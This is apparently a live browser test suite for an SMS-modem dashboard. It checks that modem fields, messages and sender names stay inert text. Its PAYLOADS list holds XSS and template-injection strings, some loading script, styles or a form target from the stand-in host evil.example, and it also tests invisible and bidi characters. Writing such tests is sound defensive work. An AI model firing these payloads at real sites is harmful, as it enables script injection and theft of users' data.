"""What modems and networks call themselves, as attacks on the page's reader: a real browser carries nothing out."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from inbound_texts import name, write
from page_driver import browser, complaints, needs_chromium, served, text, until
from selenium.common.exceptions import NoAlertPresentException
from selenium.webdriver import Chrome
from web_fixtures import WebBox, web_box

from simcourier.modem.facts import ModemState

pytestmark = [pytest.mark.live, needs_chromium]

PAYLOADS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>operator</a>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=key autofocus onfocus=alert(1)>",
    "<style>@import '//evil.example/x.css'</style>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "</main></body><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)>",
    "{{7*7}}${7*7}<%= 7*7 %>{% debug %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
)
# Each with what a reader must see in place of it.
INVISIBLE = {
    "Exa\u202emple": "Exa<U+202E>mple",
    "\u2066Mobile\u2069": "<U+2066>Mobile<U+2069>",
    "Op\u200berator": "Op<U+200B>erator",
    "No\x00Net": "No<U+0000>Net",
    "\x1b[31mred": "<U+001B>[31mred",
    "two\r\nlines": "two<U+000D><U+000A>lines",
    "bell\x07": "bell<U+0007>",
    "\ufeffmark": "<U+FEFF>mark",
    "next\x85line": "next<U+0085>line",
}


@pytest.fixture
def web(tmp_path: Path) -> Iterator[WebBox]:
    with web_box(tmp_path / "box") as box:
        yield box


def call_itself(web: WebBox, name: str, words: str) -> None:
    """A modem whose every word is this."""
    web.modem(name)
    card = web.radio.cards[name]
    said = dict.fromkeys(("operator", "manufacturer", "model", "revision"), words)
    web.change(replace(card, reason=words, **said))


def assert_nothing_was_carried_out(driver: Chrome, url: str) -> None:
    with pytest.raises(NoAlertPresentException):
        driver.switch_to.alert.accept()
    assert driver.current_url.startswith(url)
    asked = driver.execute_script("return performance.getEntriesByType('resource').map(e => e.name)")
    assert [name for name in asked if not name.startswith(url)] == []
    # A refusal by the Content-Security-Policy would be a complaint: so the markup did not even get in.
    assert complaints(driver) == []
    foreign = "script:not([src^='/static/']), iframe, base, form, svg script, [onerror], [onload], [onfocus]"
    assert driver.find_elements("css selector", f"main :is({foreign})") == []


def test_a17_23_payloads_in_every_word_of_a_modem_are_words(web: WebBox, tmp_path: Path) -> None:
    for number, payload in enumerate(PAYLOADS):
        call_itself(web, f"modem-{number}", payload)
    key = web.key("messages:send")
    for payload in PAYLOADS:
        assert web.send(key, reference=payload[:64], supersedes=payload[:64]).status_code == 202
    with served(web) as url, browser(tmp_path / "profile") as driver:
        driver.get(url)
        shown = until(driver, lambda: text(driver, ".modems"))
        for payload in PAYLOADS:
            assert payload in shown
        assert_nothing_was_carried_out(driver, url)
        for number, payload in enumerate(PAYLOADS):
            driver.get(f"{url}modems/modem-{number}")
            assert text(driver, "main").count(payload) >= 4
            assert_nothing_was_carried_out(driver, url)


def test_a17_payloads_that_come_with_a_refresh_are_words_too(web: WebBox, tmp_path: Path) -> None:
    """The script of the page puts in what it fetches: nothing of that may be carried out either."""
    web.modem("modem-0")
    with served(web) as url, browser(tmp_path / "profile") as driver:
        driver.get(url)
        until(driver, lambda: "Example Mobile" in text(driver, ".modems"))
        for payload in PAYLOADS[:6]:
            call_itself(web, "modem-0", payload)
            until(driver, lambda payload=payload: payload in text(driver, ".modems"))
            assert_nothing_was_carried_out(driver, url)


def test_a17_payloads_as_text_and_as_a_senders_name_are_words_or_not_there(
    web: WebBox, tmp_path: Path
) -> None:
    """Names have 11 characters; a text is on no page at all, whoever looks and whatever it is."""
    web.modem("modem-0")
    for payload in PAYLOADS:
        write(web, payload, "+447700900666", modem="modem-0")
        write(web, "hello", name(payload), modem="modem-0")
    with served(web) as url, browser(tmp_path / "profile") as driver:
        driver.get(url)
        shown = until(driver, lambda: text(driver, ".received"))
        assert "+44•••••0666" in shown
        assert_nothing_was_carried_out(driver, url)
        assert not [payload for payload in PAYLOADS if payload in driver.page_source]
        for payload in PAYLOADS[:6]:
            write(web, payload, name(payload), modem="modem-0")
        driver.refresh()
        until(driver, lambda: text(driver, ".received"))
        assert_nothing_was_carried_out(driver, url)


def test_a17_an_answer_of_the_api_is_no_page_whatever_was_written(web: WebBox, tmp_path: Path) -> None:
    """A browser that is led to the JSON itself must not take it for markup."""
    web.modem("modem-0")
    for payload in PAYLOADS:
        write(web, payload, name(payload), modem="modem-0")
    answer = web.get("/v1/inbound", web.key("inbound:read"))
    assert answer.content_type == "application/json"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert {item["text"] for item in answer.json["items"]} == set(PAYLOADS), "programs get what was written"


def test_a18_what_cannot_be_seen_is_shown_as_what_it_is(web: WebBox, tmp_path: Path) -> None:
    for number, words in enumerate(INVISIBLE):
        call_itself(web, f"modem-{number}", words)
    with served(web) as url, browser(tmp_path / "profile") as driver:
        driver.get(url)
        shown = until(driver, lambda: text(driver, ".modems"))
        for number, (words, seen) in enumerate(INVISIBLE.items()):
            assert seen in shown
            assert words not in shown
            driver.get(f"{url}modems/modem-{number}")
            assert text(driver, "main").count(seen) >= 4
            source = driver.page_source
            assert not [
                one
                for one in words
                if one in "\u202e\u2066\u2069\u200b\x00\x1b\x07\ufeff\x85" and one in source
            ]
            driver.get(url)
        assert complaints(driver) == []


def test_a18_a_reason_that_turns_the_writing_direction_does_not_turn_the_page(
    web: WebBox, tmp_path: Path
) -> None:
    web.modem(state=ModemState.SIM_LOCKED, reason="\u202eready")
    with served(web) as url, browser(tmp_path / "profile") as driver:
        driver.get(url)
        assert "\u202e" not in driver.page_source
        assert "No modem can send." in text(driver, "#live .banner")
